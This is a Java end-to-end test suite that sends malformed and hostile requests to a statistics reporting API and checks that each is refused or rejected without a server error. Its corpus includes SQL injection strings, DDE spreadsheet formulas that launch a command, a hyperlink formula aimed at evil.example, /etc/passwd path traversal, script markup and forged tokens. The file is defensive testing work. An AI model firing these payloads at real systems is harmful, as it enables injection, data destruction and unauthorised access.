package eu.drugsplan.e2e;

import static org.assertj.core.api.Assertions.assertThat;
import static org.awaitility.Awaitility.await;

import eu.drugsplan.testsupport.Tokens;
import io.restassured.path.json.JsonPath;
import java.io.ByteArrayInputStream;
import java.io.ByteArrayOutputStream;
import java.io.IOException;
import java.io.InputStream;
import java.io.OutputStream;
import java.net.Socket;
import java.net.URI;
import java.net.http.HttpClient;
import java.net.http.HttpRequest;
import java.net.http.HttpResponse;
import java.nio.charset.StandardCharsets;
import java.time.Duration;
import java.util.List;
import java.util.Map;
import java.util.stream.Stream;
import org.junit.jupiter.api.BeforeAll;
import org.junit.jupiter.api.MethodOrderer;
import org.junit.jupiter.api.Order;
import org.junit.jupiter.api.Test;
import org.junit.jupiter.api.TestMethodOrder;
import org.junit.jupiter.api.extension.ExtendWith;
import org.junit.jupiter.params.ParameterizedTest;
import org.junit.jupiter.params.provider.MethodSource;

/**
 * A corpus of hostile and malformed requests sent through the gateway to every public endpoint of the merged
 * OpenAPI document. The rule each case is held to:
 * <ul>
 *   <li>a request unusable as a whole (broken JSON or CSV, invalid UTF-8 in either, wrong types, unknown fields or columns, a body too
 *       large or nested too deep, a parameter of the wrong form, a forged or expired token, a missing role) is
 *       refused with exactly the expected 4xx as {@code application/problem+json};</li>
 *   <li>a submission whose body is usable but whose row is hostile (NaN, a negative count, a huge number, an
 *       unknown code, a wrong period, another reporter's area, a formula or SQL where a code belongs) is a
 *       partial success: 201 with the row rejected under its stable conflict code and
 *       nothing of it accepted;</li>
 *   <li>never a 5xx or a stack trace, and afterwards nothing of the corpus is stored anywhere.</li>
 * </ul>
 * The corpus uses the areas MT, CY and SI (reporters MT, CY, SI), which no other e2e test uses; SK carries the
 * one legitimate row: a free-text comment that looks like a spreadsheet formula, stored as sent and
 * neutralised in the CSV exports.
 */
@TestMethodOrder(MethodOrderer.OrderAnnotation.class)
@ExtendWith(SharedSuiteExtension.class)
class HostileInputThroughGatewayTest {

    private static final String DEATHS = "PI09.DRUG_INDUCED_DEATHS";
    private static final String JSON = "application/json";
    private static final String CSV = "text/csv";
    private static final String SDMX_CSV = "application/vnd.sdmx.data+csv;version=2.0.0";
    private static final String SUBMISSIONS = "/api/v1/submissions";
    private static final List<String> CORPUS_AREAS = List.of("MT", "CY", "SI");
    private static final String FORMULA = "=HYPERLINK(\"http://evil.example/\"&A1,\"click\")";

    private static Suite suite;
    private static HttpClient http;
    /** A submission of MT's, which another reporter must not read. */
    private static String mtSubmission;

    @BeforeAll
    static void useTheSharedSuiteAndSubmitAsMalta(Suite shared) throws Exception {
        suite = shared;
        http = HttpClient.newBuilder().version(HttpClient.Version.HTTP_1_1).connectTimeout(Duration.ofSeconds(5)).build();
        Answer first = send(Case.post("MT's own submission", SUBMISSIONS, "MT", JSON,
                observations(deaths("MT", "2016", "\"SEX\": \"X\", \"AGE\": \"TOTAL\"", "1")), null));
        assertThat(first.status()).as(first.body()).isEqualTo(201);
        mtSubmission = first.json().getString("id");
    }

    static Stream<Case> corpus() {
        return CORPUS.stream();
    }

    @Order(1)
    @ParameterizedTest(name = "[{index}] {0}")
    @MethodSource("corpus")
    void every_hostile_request_gets_its_4xx_problem_or_its_row_rejected_and_never_a_5xx(Case hostile) throws Exception {
        Answer answer = send(hostile);

        assertThat(answer.status()).as("%s answered %s", hostile.name(), answer.body()).isLessThan(500);
        assertThat(answer.body()).as("no stack trace leaks").doesNotContain("\tat ", ".java:", "Exception");
        if (hostile.conflict() == null) {
            assertThat(answer.status()).as(answer.body()).isEqualTo(hostile.status());
            assertThat(answer.contentType()).as(answer.body()).startsWith("application/problem+json");
            assertThat(answer.json().getInt("status")).isEqualTo(hostile.status());
            assertThat(answer.json().getString("type")).startsWith("https://");
        } else {
            assertThat(answer.status()).as(answer.body()).isEqualTo(201);
            JsonPath summary = answer.json();
            assertThat(summary.getInt("accepted")).as(answer.body()).isZero();
            assertThat(summary.getInt("rejected")).as(answer.body()).isEqualTo(summary.getInt("received")).isPositive();
            assertThat(summary.getList("conflicts.code", String.class)).as(answer.body()).contains(hostile.conflict());
        }
    }

    @Order(2)
    @Test
    void nothing_of_the_corpus_is_stored_in_any_submission_series_trend_or_coverage() throws Exception {
        // the SK row goes the whole way; once it is served, anything the corpus had let through would be too
        Answer legitimate = send(Case.post("a legitimate row", SUBMISSIONS, "SK", JSON, observations("""
                {"measure": "PI01.DRUG_RELATED_HOMICIDES", "area": "SK", "period": "2019", "value": 3,
                 "comment": %s}""".formatted(quoted(FORMULA))), null));
        assertThat(legitimate.status()).as(legitimate.body()).isEqualTo(201);
        Review.release(suite.gatewayUrl(), legitimate.json().getString("id"));
        await().atMost(Duration.ofSeconds(60)).pollInterval(Duration.ofMillis(250)).until(() ->
                fetch("/api/v1/trends/PI01.DRUG_RELATED_HOMICIDES?area=SK", null).json().getList("trends").size() == 1);

        for (String reporter : CORPUS_AREAS) {
            JsonPath page = fetch(SUBMISSIONS + "?size=200", Tokens.forReporter(reporter, "submitter")).json();
            assertThat(page.getList("items.accepted", Integer.class)).as(reporter + "'s submissions").allMatch(n -> n == 0);
            assertThat(page.getList("items.deleted", Integer.class)).as(reporter + "'s submissions").allMatch(n -> n == 0);
        }
        String areas = String.join(",", CORPUS_AREAS);
        List<String> measures = fetch("/api/v1/measures", null).json().getList("code", String.class);
        assertThat(measures).hasSizeGreaterThan(20);
        for (String measure : measures) {
            assertThat(fetch("/api/v1/data/" + measure + "?area=" + areas, null).json().getList("series"))
                    .as("series of %s", measure).isEmpty();
            assertThat(fetch("/api/v1/trends/" + measure + "?area=" + areas, null).json().getList("trends"))
                    .as("trends of %s", measure).isEmpty();
        }
        JsonPath coverage = fetch("/api/v1/coverage?measure=" + DEATHS, null).json();
        for (String area : CORPUS_AREAS) {
            assertThat(coverage.getInt("areas.find { it.area == '" + area + "' }.reported")).as(area).isZero();
        }
        assertThat(fetch("/api/v1/data/" + DEATHS + "/history?area=MT&period=2016&SEX=M&AGE=TOTAL", null).status())
                .isEqualTo(404);
    }

    @Order(3)
    @Test
    void a_comment_that_looks_like_a_formula_is_kept_as_sent_but_exported_as_text_to_spreadsheets() throws Exception {
        String path = "/api/v1/data/PI01.DRUG_RELATED_HOMICIDES?area=SK";
        assertThat(fetch(path, null).json().getString("series[0].observations[0].comment")).isEqualTo(FORMULA);

        String quotedInCsv = "\"'" + FORMULA.replace("\"", "\"\"") + "\"";
        for (String format : List.of(CSV, SDMX_CSV)) {
            Answer export = send(new Case("export", "GET", path, null, null, null, Map.of("Accept", format), 200, null));
            assertThat(export.status()).isEqualTo(200);
            assertThat(export.body()).as(format).contains("," + quotedInCsv).doesNotContain(",\"=");
        }
    }

    // ---------------------------------------------------------------------------------------------------------
    // The corpus
    // ---------------------------------------------------------------------------------------------------------

    private static final String CSV_HEADER = "measure,area,period,value,status,comment,SEX,AGE\n";
    private static final String SDMX_HEADER = "STRUCTURE,STRUCTURE_ID,ACTION,REF_AREA,SEX,AGE,TIME_PERIOD,OBS_VALUE\n";
    private static final String MT_DIMS = "\"SEX\": \"M\", \"AGE\": \"TOTAL\"";
    private static final String ANY = DEATHS + "?area=MT";

    private static final List<Case> CORPUS = List.of(
            // --- POST /api/v1/submissions, JSON unusable as a whole ---
            refused(400, "JSON cut off in the middle", postJson("{\"observations\": [{\"measure\": \"PI09")),
            refused(400, "JSON with a trailing comma", postJson("{\"observations\": [],}")),
            refused(400, "an empty JSON body", postJson("")),
            refused(400, "JSON null", postJson("null")),
            refused(400, "a JSON array instead of an object", postJson("[]")),
            refused(400, "observations given as a string", postJson("{\"observations\": \"all of them\"}")),
            refused(400, "observations given as numbers", postJson("{\"observations\": [1, 2, 3]}")),
            refused(400, "observations missing", postJson("{}")),
            refused(400, "an unknown top-level field", postJson("{\"observations\": [], \"admin\": true}")),
            refused(400, "an unknown field in a row", postJson(observations(
                    deaths("MT", "2016", MT_DIMS, "1").replace("\"value\": 1", "\"value\": 1, \"reporter\": \"CY\"")))),
            refused(400, "an area given as an array", postJson(observations(
                    "{\"measure\": \"" + DEATHS + "\", \"area\": [\"MT\", \"CY\"], \"period\": \"2016\", \"value\": 1}"))),
            refused(400, "a dimension code given as an object", postJson(observations(
                    deaths("MT", "2016", "\"SEX\": {\"$ne\": null}, \"AGE\": \"TOTAL\"", "1")))),
            refused(400, "a bare NaN literal", postJson(observations(deaths("MT", "2016", MT_DIMS, "NaN")))),
            refused(400, "a bare Infinity literal", postJson(observations(deaths("MT", "2016", MT_DIMS, "-Infinity")))),
            refused(400, "arrays nested 100,000 deep", postJson("[".repeat(100_000) + "]".repeat(100_000))),
            refused(400, "objects nested 5,000 deep in a row", postJson(observations(
                    "{\"comment\": " + "{\"a\": ".repeat(5_000) + "1" + "}".repeat(5_000) + "}"))),
            refused(400, "invalid UTF-8 in a JSON string", new Case("", "POST", SUBMISSIONS, "MT", JSON,
                    concat("{\"observations\": [{\"measure\": \"" + DEATHS + "\", \"area\": \"M", new byte[] {(byte) 0xC3, 0x28},
                            "T\", \"period\": \"2016\", \"dimensions\": {" + MT_DIMS + "}, \"value\": 1}]}"), Map.of(), 0, null)),
            refused(400, "dryRun that is neither true nor false", post(SUBMISSIONS + "?dryRun=yes", "MT", JSON,
                    observations(deaths("MT", "2016", MT_DIMS, "1")))),
            refused(400, "an Idempotency-Key of 300 characters", new Case("", "POST", SUBMISSIONS, "MT", JSON,
                    utf8(observations(deaths("MT", "2016", MT_DIMS, "1"))), Map.of("Idempotency-Key", "k".repeat(300)), 0, null)),

            // --- POST /api/v1/submissions, JSON rows that are hostile: rejected, nothing accepted ---
            rejected("VALUE_NOT_FINITE", "NaN as a string", postJson(observations(deaths("MT", "2016", MT_DIMS, "\"NaN\"")))),
            rejected("VALUE_NOT_FINITE", "Infinity as a string", postJson(observations(deaths("MT", "2016", MT_DIMS, "\"Infinity\"")))),
            rejected("VALUE_NOT_FINITE", "1e999, beyond any double", postJson(observations(deaths("MT", "2016", MT_DIMS, "1e999")))),
            rejected("VALUE_NOT_FINITE", "a value that is a word", postJson(observations(deaths("MT", "2016", MT_DIMS, "\"many\"")))),
            rejected("VALUE_NOT_FINITE", "a value that is a boolean", postJson(observations(deaths("MT", "2016", MT_DIMS, "true")))),
            rejected("VALUE_NOT_FINITE", "a hexadecimal value", postJson(observations(deaths("MT", "2016", MT_DIMS, "\"0x1F\"")))),
            rejected("VALUE_OUT_OF_RANGE", "a 39-digit count", postJson(observations(
                    deaths("MT", "2016", MT_DIMS, "123456789012345678901234567890123456789")))),
            rejected("VALUE_OUT_OF_RANGE", "a count of 1e15", postJson(observations(deaths("MT", "2016", MT_DIMS, "1e15")))),
            rejected("VALUE_OUT_OF_RANGE", "a value so small it would be stored as 0",
                    postJson(observations(deaths("MT", "2016", MT_DIMS, "1e-999999999")))),
            rejected("VALUE_NEGATIVE", "a negative count of deaths", postJson(observations(deaths("MT", "2016", MT_DIMS, "-5")))),
            rejected("VALUE_OUT_OF_RANGE", "a percentage of 1000", postJson(observations(
                    "{\"measure\": \"PI10.OST_COVERAGE\", \"area\": \"MT\", \"period\": \"2016\", \"value\": 1000}"))),
            rejected("MEASURE_UNKNOWN", "a measure not in the catalogue", postJson(observations(
                    "{\"measure\": \"PI09.OVERDOSES\", \"area\": \"MT\", \"period\": \"2016\", \"value\": 1}"))),
            rejected("AREA_UNKNOWN", "an area not in REF_AREA", postJson(observations(deaths("XK", "2016", MT_DIMS, "1")))),
            rejected("CODE_UNKNOWN", "a sex code not in its code list", postJson(observations(
                    deaths("MT", "2016", "\"SEX\": \"Q\", \"AGE\": \"TOTAL\"", "1")))),
            rejected("DIMENSION_UNKNOWN", "a dimension the measure lacks", postJson(observations(
                    deaths("MT", "2016", MT_DIMS + ", \"SUBSTANCE\": \"COCAINE\"", "1")))),
            rejected("DIMENSION_MISSING", "a dimension left out", postJson(observations(deaths("MT", "2016", "\"SEX\": \"M\"", "1")))),
            rejected("PERIOD_INVALID", "month 13", postJson(observations(deaths("MT", "2016-13", MT_DIMS, "1")))),
            rejected("PERIOD_INVALID", "the 30th of February", postJson(observations(deaths("MT", "2016-02-30", MT_DIMS, "1")))),
            rejected("PERIOD_INVALID", "week 60", postJson(observations(deaths("MT", "2016-W60", MT_DIMS, "1")))),
            rejected("PERIOD_INVALID", "an eleven-digit year", postJson(observations(deaths("MT", "99999999999", MT_DIMS, "1")))),
            rejected("PERIOD_INVALID", "a negative year", postJson(observations(deaths("MT", "-2016", MT_DIMS, "1")))),
            rejected("PERIOD_FREQUENCY_MISMATCH", "a month for an annual measure", postJson(observations(deaths("MT", "2016-03", MT_DIMS, "1")))),
            rejected("STATUS_INVALID", "a status outside OBS_STATUS", postJson(observations(
                    deaths("MT", "2016", MT_DIMS, "1").replace("\"value\": 1", "\"value\": 1, \"status\": \"ZZ\"")))),
            rejected("ACTION_INVALID", "an action that is no action", postJson(observations(
                    deaths("MT", "2016", MT_DIMS, "1").replace("\"value\": 1", "\"value\": 1, \"action\": \"TRUNCATE\"")))),
            rejected("REPORTER_NOT_ALLOWED_AREA", "Malta reporting for Cyprus", postJson(observations(deaths("CY", "2016", MT_DIMS, "1")))),
            rejected("REPORTER_NOT_ALLOWED_AREA", "Malta reporting for the EU total", postJson(observations(
                    deaths("EU27_2020", "2016", MT_DIMS, "1")))),
            rejected("REPORTER_NOT_ALLOWED_AREA", "Cyprus reporting for Slovenia", post(SUBMISSIONS, "CY", JSON,
                    observations(deaths("SI", "2016", MT_DIMS, "1")))),
            rejected("REPORTER_NOT_ALLOWED_MEASURE", "a member state reporting an agency's measure", postJson(observations(
                    "{\"measure\": \"PI05.NPS_NOTIFIED\", \"area\": \"MT\", \"period\": \"2016\", \"value\": 1}"))),
            rejected("MEASURE_INVALID", "a spreadsheet formula as the measure", postJson(observations(
                    "{\"measure\": \"=cmd|' /C calc'!A0\", \"area\": \"MT\", \"period\": \"2016\", \"value\": 1}"))),
            rejected("AREA_INVALID", "a spreadsheet formula as the area", postJson(observations(deaths("@SUM(1+1)*cmd", "2016", MT_DIMS, "1")))),
            rejected("DIMENSION_INVALID", "a spreadsheet formula as a code", postJson(observations(
                    deaths("MT", "2016", "\"SEX\": \"+M+cmd\", \"AGE\": \"TOTAL\"", "1")))),
            rejected("AREA_INVALID", "SQL in the area", postJson(observations(deaths("MT'; DROP TABLE submission; --", "2016", MT_DIMS, "1")))),
            rejected("MEASURE_INVALID", "SQL in the measure", postJson(observations(
                    "{\"measure\": \"PI09' OR '1'='1\", \"area\": \"MT\", \"period\": \"2016\", \"value\": 1}"))),
            rejected("PERIOD_INVALID", "SQL in the period", postJson(observations(deaths("MT", "2016'); DELETE FROM outbox_event; --", MT_DIMS, "1")))),
            rejected("DIMENSION_INVALID", "SQL in a dimension name", postJson(observations(
                    deaths("MT", "2016", MT_DIMS + ", \"SEX\\\" = 'M' OR 1=1 --\": \"M\"", "1")))),
            rejected("AREA_INVALID", "a path traversal as the area", postJson(observations(deaths("../../etc/passwd", "2016", MT_DIMS, "1")))),
            rejected("MEASURE_MISSING", "a null row", postJson("{\"observations\": [null]}")),

            // --- POST /api/v1/submissions, CSV and SDMX-CSV ---
            refused(400, "an empty CSV body", post(SUBMISSIONS, "MT", CSV, "")),
            refused(400, "a CSV header without the measure column", post(SUBMISSIONS, "MT", CSV, "area,period,value\nMT,2016,1\n")),
            refused(400, "an unknown CSV column", post(SUBMISSIONS, "MT", CSV, "measure,area,period,value,owner\n" + DEATHS + ",MT,2016,1,x\n")),
            refused(400, "a CSV column whose name is a formula", post(SUBMISSIONS, "MT", CSV, "measure,area,period,value,=1+1\n" + DEATHS + ",MT,2016,1,x\n")),
            refused(400, "binary garbage as CSV", new Case("", "POST", SUBMISSIONS, "MT", CSV,
                    new byte[] {0, 1, 2, (byte) 0xFF, (byte) 0xFE, 10, 0, 0}, Map.of(), 0, null)),
            rejected("ROW_MALFORMED", "a CSV record with a quote never closed", post(SUBMISSIONS, "MT", CSV,
                    CSV_HEADER + DEATHS + ",MT,2016,\"12,,,M,TOTAL\n")),
            rejected("ROW_MALFORMED", "a CSV record with too few fields", post(SUBMISSIONS, "MT", CSV, CSV_HEADER + DEATHS + ",MT,2016\n")),
            rejected("ROW_MALFORMED", "a CSV record with too many fields", post(SUBMISSIONS, "MT", CSV,
                    CSV_HEADER + DEATHS + ",MT,2016,1,,,M,TOTAL,extra,more\n")),
            rejected("VALUE_NOT_FINITE", "NaN in a CSV cell", post(SUBMISSIONS, "MT", CSV, CSV_HEADER + DEATHS + ",MT,2016,NaN,,,M,TOTAL\n")),
            rejected("VALUE_NOT_FINITE", "a decimal comma in a CSV cell", post(SUBMISSIONS, "MT", CSV, CSV_HEADER + DEATHS + ",MT,2016,\"1,5\",,,M,TOTAL\n")),
            rejected("VALUE_NEGATIVE", "a negative count in CSV", post(SUBMISSIONS, "MT", CSV, CSV_HEADER + DEATHS + ",MT,2016,-1,,,M,TOTAL\n")),
            rejected("MEASURE_INVALID", "a DDE formula as the CSV measure", post(SUBMISSIONS, "MT", CSV,
                    CSV_HEADER + "=cmd|' /C calc'!A0,MT,2016,1,,,M,TOTAL\n")),
            rejected("AREA_INVALID", "a formula as the CSV area", post(SUBMISSIONS, "MT", CSV, CSV_HEADER + DEATHS + ",-2+3+cmd,2016,1,,,M,TOTAL\n")),
            rejected("CODE_UNKNOWN", "an age code not in its code list, in CSV", post(SUBMISSIONS, "MT", CSV,
                    CSV_HEADER + DEATHS + ",MT,2016,1,,,M,TOTAL2\n")),
            rejected("AREA_INVALID", "SQL in the CSV area", post(SUBMISSIONS, "MT", CSV,
                    CSV_HEADER + DEATHS + ",\"MT' OR 1=1; --\",2016,1,,,M,TOTAL\n")),
            // the CSV is decoded strictly, as JSON is: a replacing decoder once accepted rows with other text than sent
            refused(400, "invalid UTF-8 in a CSV cell", new Case("", "POST", SUBMISSIONS, "MT", CSV,
                    concat(CSV_HEADER + DEATHS + ",M", new byte[] {(byte) 0xFF, (byte) 0xFE}, "T,2016,1,,,M,TOTAL\n"), Map.of(), 0, null)),
            rejected("REPORTER_NOT_ALLOWED_AREA", "another reporter's area in CSV", post(SUBMISSIONS, "MT", CSV,
                    CSV_HEADER + DEATHS + ",SI,2016,1,,,M,TOTAL\n")),
            refused(400, "SDMX-CSV without REF_AREA", post(SUBMISSIONS, "MT", SDMX_CSV, "STRUCTURE,STRUCTURE_ID,TIME_PERIOD,OBS_VALUE\ndataflow,"
                    + DEATHS + ",2016,1\n")),
            refused(415, "SDMX-CSV of another version", post(SUBMISSIONS, "MT", "application/vnd.sdmx.data+csv;version=1.0.0", SDMX_HEADER)),
            rejected("ACTION_INVALID", "an SDMX action that is none", post(SUBMISSIONS, "MT", SDMX_CSV, SDMX_HEADER
                    + "dataflow,EUDRUGS:" + DEATHS + "(1.0),X,MT,M,TOTAL,2016,1\n")),
            rejected("MEASURE_INVALID", "a path traversal as the SDMX dataflow", post(SUBMISSIONS, "MT", SDMX_CSV, SDMX_HEADER
                    + "dataflow,EUDRUGS:../../etc/passwd(1.0),I,MT,M,TOTAL,2016,1\n")),
            rejected("REPORTER_NOT_ALLOWED_AREA", "another reporter's area in SDMX-CSV", post(SUBMISSIONS, "MT", SDMX_CSV, SDMX_HEADER
                    + "dataflow,EUDRUGS:" + DEATHS + "(1.0),I,CY,M,TOTAL,2016,1\n")),
            refused(415, "XML", post(SUBMISSIONS, "MT", "application/xml", "<observations/>")),
            refused(415, "plain text", post(SUBMISSIONS, "MT", "text/plain", "MT 2016 1")),
            refused(415, "a form post", post(SUBMISSIONS, "MT", "application/x-www-form-urlencoded", "measure=x")),

            // --- POST /api/v1/submissions: who sends it, and how much ---
            refused(401, "a submission without a token", post(SUBMISSIONS, null, JSON, "{\"observations\": []}")),
            refused(401, "a submission with an expired token", post(SUBMISSIONS, "expired", JSON, "{\"observations\": []}")),
            refused(401, "a submission with a token for another audience", post(SUBMISSIONS, "wrong-audience", JSON, "{\"observations\": []}")),
            refused(401, "a submission with a token signed by another key", post(SUBMISSIONS, "other-key", JSON, "{\"observations\": []}")),
            refused(401, "a submission with an unsigned alg-none token", post(SUBMISSIONS, "unsigned", JSON, "{\"observations\": []}")),
            refused(401, "a submission with a token that is no JWT", post(SUBMISSIONS, "garbage", JSON, "{\"observations\": []}")),
            refused(401, "a submission with Basic credentials", post(SUBMISSIONS, "basic", JSON, "{\"observations\": []}")),
            refused(403, "a submission by a reader", post(SUBMISSIONS, "reader", JSON, "{\"observations\": []}")),
            refused(403, "a submission by a reporter the catalogue does not know", post(SUBMISSIONS, "unknown-reporter", JSON,
                    "{\"observations\": []}")),
            refused(403, "a submission by a reporter claim holding SQL", post(SUBMISSIONS, "sql-reporter", JSON, "{\"observations\": []}")),
            refused(413, "a submission announcing 1.5 GB", new Case("", "POST", SUBMISSIONS, "MT", JSON, null,
                    Map.of("Content-Length", "1572864000"), 0, null)),

            // --- GET /api/v1/submissions and /api/v1/submissions/{id} ---
            refused(401, "the submission list without a token", get(SUBMISSIONS, null)),
            refused(401, "the submission list with a forged token", get(SUBMISSIONS, "other-key")),
            refused(401, "the submission list with an expired token", get(SUBMISSIONS, "expired")),
            refused(400, "a negative page", get(SUBMISSIONS + "?page=-1", "MT")),
            refused(400, "a page beyond any integer", get(SUBMISSIONS + "?page=99999999999", "MT")),
            refused(400, "a page size of 100,000", get(SUBMISSIONS + "?size=100000", "MT")),
            refused(400, "a status that does not exist", get(SUBMISSIONS + "?status=DROPPED", "MT")),
            refused(400, "SQL as the status", get(SUBMISSIONS + "?status=VALIDATED%27%20OR%20%271%27%3D%271", "MT")),
            refused(400, "a from that is no instant", get(SUBMISSIONS + "?from=yesterday", "MT")),
            refused(400, "an id that is no UUID", get(SUBMISSIONS + "/42", "MT")),
            refused(400, "a path traversal as the id", get(SUBMISSIONS + "/..%2F..%2Fetc%2Fpasswd", "MT")),
            refused(400, "SQL as the id", get(SUBMISSIONS + "/1%27%20OR%20%271%27%3D%271", "MT")),
            refused(404, "another reporter's submission", get(SUBMISSIONS + "/{mtSubmission}", "CY")),
            refused(401, "a submission read with an unsigned token", get(SUBMISSIONS + "/{mtSubmission}", "unsigned")),

            // --- GET /api/v1/data/{measure}, /{key}, /history ---
            refused(404, "data of a measure not in the catalogue", get("/api/v1/data/PI99.NOTHING", null)),
            refused(400, "a path traversal as the measure", get("/api/v1/data/..%2F..%2Fetc%2Fpasswd", null)),
            refused(404, "SQL as the measure", get("/api/v1/data/PI09%27%20OR%20%271%27%3D%271", null)),
            refused(400, "a path traversal as the key", get("/api/v1/data/" + DEATHS + "/..%2F..%2Fetc%2Fpasswd", null)),
            refused(400, "a key with too many parts", get("/api/v1/data/" + DEATHS + "/MT.M.TOTAL.X.Y", null)),
            refused(400, "a NUL byte as the key", get("/api/v1/data/" + DEATHS + "/%00", null)),
            refused(400, "a key part also given as a parameter", get("/api/v1/data/" + DEATHS + "/MT.M.TOTAL?SEX=F", null)),
            refused(400, "an unknown data parameter", get("/api/v1/data/" + ANY + "&debug=true", null)),
            refused(400, "a startPeriod in month 13", get("/api/v1/data/" + ANY + "&startPeriod=2016-13", null)),
            refused(400, "an endPeriod of eleven digits", get("/api/v1/data/" + ANY + "&endPeriod=99999999999", null)),
            refused(400, "a negative lastNObservations", get("/api/v1/data/" + ANY + "&lastNObservations=-1", null)),
            refused(400, "a lastNObservations beyond any integer", get("/api/v1/data/" + ANY + "&lastNObservations=99999999999999", null)),
            refused(400, "an updatedAfter that is no instant", get("/api/v1/data/" + ANY + "&updatedAfter=yesterday", null)),
            refused(400, "an asOf in month 13", get("/api/v1/data/" + ANY + "&asOf=2026-13-01", null)),
            refused(400, "an includeHistory that is no boolean", get("/api/v1/data/" + ANY + "&includeHistory=maybe", null)),
            // SDMX-JSON carries history as several data sets since issue 15 (no longer a 400); an unreadable Accept
            // was a 500 (JAX-RS throws on it), found by the e2e generator
            refused(406, "data with an Accept that is no media range", new Case("", "GET", "/api/v1/data/" + ANY, null, null, null,
                    Map.of("Accept", "garbage"), 0, null)),
            refused(406, "data as XML", new Case("", "GET", "/api/v1/data/" + ANY, null, null, null, Map.of("Accept", "application/xml"), 0, null)),
            refused(401, "data with an expired token", get("/api/v1/data/" + ANY, "expired")),
            refused(401, "data with a token signed by another key", get("/api/v1/data/" + ANY, "other-key")),
            refused(413, "data asked with a 70 KB body", new Case("", "GET", "/api/v1/data/" + ANY, null, JSON,
                    new byte[70_000], Map.of(), 0, null)),
            refused(411, "data asked with a chunked body", new Case("", "GET", "/api/v1/data/" + ANY, null, JSON,
                    utf8("{}"), Map.of("Transfer-Encoding", "chunked"), 0, null)),
            refused(400, "history without its dimensions", get("/api/v1/data/" + DEATHS + "/history?area=MT&period=2016", null)),
            refused(400, "history of month 99", get("/api/v1/data/" + DEATHS + "/history?area=MT&period=2016-99&SEX=M&AGE=TOTAL", null)),
            refused(400, "history with an unknown parameter", get("/api/v1/data/" + DEATHS
                    + "/history?area=MT&period=2016&SEX=M&AGE=TOTAL&OR=1", null)),

            // --- GET /api/v1/coverage ---
            refused(400, "coverage without a measure", get("/api/v1/coverage", null)),
            refused(404, "coverage of a measure not in the catalogue", get("/api/v1/coverage?measure=PI13.HAPPINESS", null)),
            refused(404, "coverage of SQL", get("/api/v1/coverage?measure=%27%3B%20DROP%20TABLE%20observation%3B%20--", null)),
            refused(400, "coverage from a year that is a word", get("/api/v1/coverage?measure=" + DEATHS + "&startPeriod=ever", null)),
            refused(401, "coverage with a token for another audience", get("/api/v1/coverage?measure=" + DEATHS, "wrong-audience")),

            // --- the catalogue: indicators, measures, codelists, reporters ---
            refused(400, "a path traversal as the indicator", get("/api/v1/indicators/..%2F..%2Fetc%2Fpasswd", null)),
            refused(404, "SQL as the indicator", get("/api/v1/indicators/PI01%27%20OR%201%3D1", null)),
            refused(400, "markup as the measure", get("/api/v1/measures/%3Cscript%3Ealert(1)%3C%2Fscript%3E", null)),
            refused(400, "a path traversal as the code list", get("/api/v1/codelists/..%2F..%2Fsecret", null)),
            refused(404, "invalid UTF-8 as the code list", get("/api/v1/codelists/%C3%28", null)),
            refused(401, "the indicators with an unsigned token", get("/api/v1/indicators", "unsigned")),
            refused(401, "the measures with an expired token", get("/api/v1/measures", "expired")),
            refused(401, "the code lists with a forged token", get("/api/v1/codelists", "other-key")),
            refused(401, "the reporters with a token that is no JWT", get("/api/v1/reporters", "garbage")),
            // a method no route has is a 405 with Allow for everyone, before any question of who asks (RFC 9110 15.5.6)
            refused(405, "a reporter changing the catalogue", new Case("", "PUT", "/api/v1/indicators", "MT", JSON,
                    utf8("[]"), Map.of(), 0, null)),
            refused(405, "an anonymous delete of a measure", new Case("", "DELETE", "/api/v1/measures/" + DEATHS, null, null, null,
                    Map.of(), 0, null)),

            // --- GET /api/v1/trends/{measure}, /api/v1/trends/stream, /api/v1/scoreboard ---
            refused(400, "trends by a dimension the measure lacks", get("/api/v1/trends/" + DEATHS + "?area=MT&SUBSTANCE=COCAINE", null)),
            refused(400, "trends by a parameter holding SQL", get("/api/v1/trends/" + DEATHS + "?area=MT&1%3D1%3B--=x", null)),
            refused(401, "trends with an unsigned token", get("/api/v1/trends/" + DEATHS, "unsigned")),
            refused(413, "trends asked with a 70 KB body", new Case("", "GET", "/api/v1/trends/" + DEATHS, null, JSON,
                    new byte[70_000], Map.of(), 0, null)),
            refused(401, "the trend stream with a forged token", get("/api/v1/trends/stream?measure=" + DEATHS, "other-key")),
            refused(401, "the trend stream with an expired token", get("/api/v1/trends/stream", "expired")),
            refused(413, "the trend stream asked with a 70 KB body", new Case("", "GET", "/api/v1/trends/stream", null, JSON,
                    new byte[70_000], Map.of(), 0, null)),
            refused(401, "the scoreboard with a token for another audience", get("/api/v1/scoreboard", "wrong-audience")),
            refused(405, "an anonymous post to the scoreboard", new Case("", "POST", "/api/v1/scoreboard", null, JSON,
                    utf8("{}"), Map.of(), 0, null)),
            refused(413, "the scoreboard asked with a 70 KB body", new Case("", "POST", "/api/v1/scoreboard", null, JSON,
                    new byte[70_000], Map.of(), 0, null)));

    // ---------------------------------------------------------------------------------------------------------

    /**
     * One hostile request and what it must get: {@code status} with a problem document, or, when
     * {@code conflict} is set, a 201 summary rejecting its row with that code.
     */
    record Case(String name, String method, String path, String token, String contentType, byte[] body,
                Map<String, String> headers, int status, String conflict) {

        static Case post(String name, String path, String token, String contentType, String body, String conflict) {
            return new Case(name, "POST", path, token, contentType, utf8(body), Map.of(), 0, conflict);
        }

        Case expecting(String newName, int newStatus, String newConflict) {
            return new Case(newName, method, path, token, contentType, body, headers, newStatus, newConflict);
        }

        @Override
        public String toString() {
            return name + " -> " + (conflict == null ? status + " problem" : "201, row rejected with " + conflict);
        }
    }

    private static Case refused(int status, String name, Case request) {
        return request.expecting(name, status, null);
    }

    private static Case rejected(String conflict, String name, Case request) {
        return request.expecting(name, 201, conflict);
    }

    private static Case postJson(String body) {
        return post(SUBMISSIONS, "MT", JSON, body);
    }

    private static Case post(String path, String token, String contentType, String body) {
        return new Case("", "POST", path, token, contentType, utf8(body), Map.of(), 0, null);
    }

    private static Case get(String path, String token) {
        return new Case("", "GET", path, token, null, null, Map.of(), 0, null);
    }

    private static String observations(String... rows) {
        return "{\"observations\": [" + String.join(", ", rows) + "]}";
    }

    private static String deaths(String area, String period, String dimensions, String value) {
        return "{\"measure\": \"" + DEATHS + "\", \"area\": " + quoted(area) + ", \"period\": " + quoted(period)
                + ", \"dimensions\": {" + dimensions + "}, \"value\": " + value + "}";
    }

    private static String quoted(String text) {
        return "\"" + text.replace("\\", "\\\\").replace("\"", "\\\"") + "\"";
    }

    private static byte[] utf8(String text) {
        return text.getBytes(StandardCharsets.UTF_8);
    }

    private static byte[] concat(String before, byte[] middle, String after) {
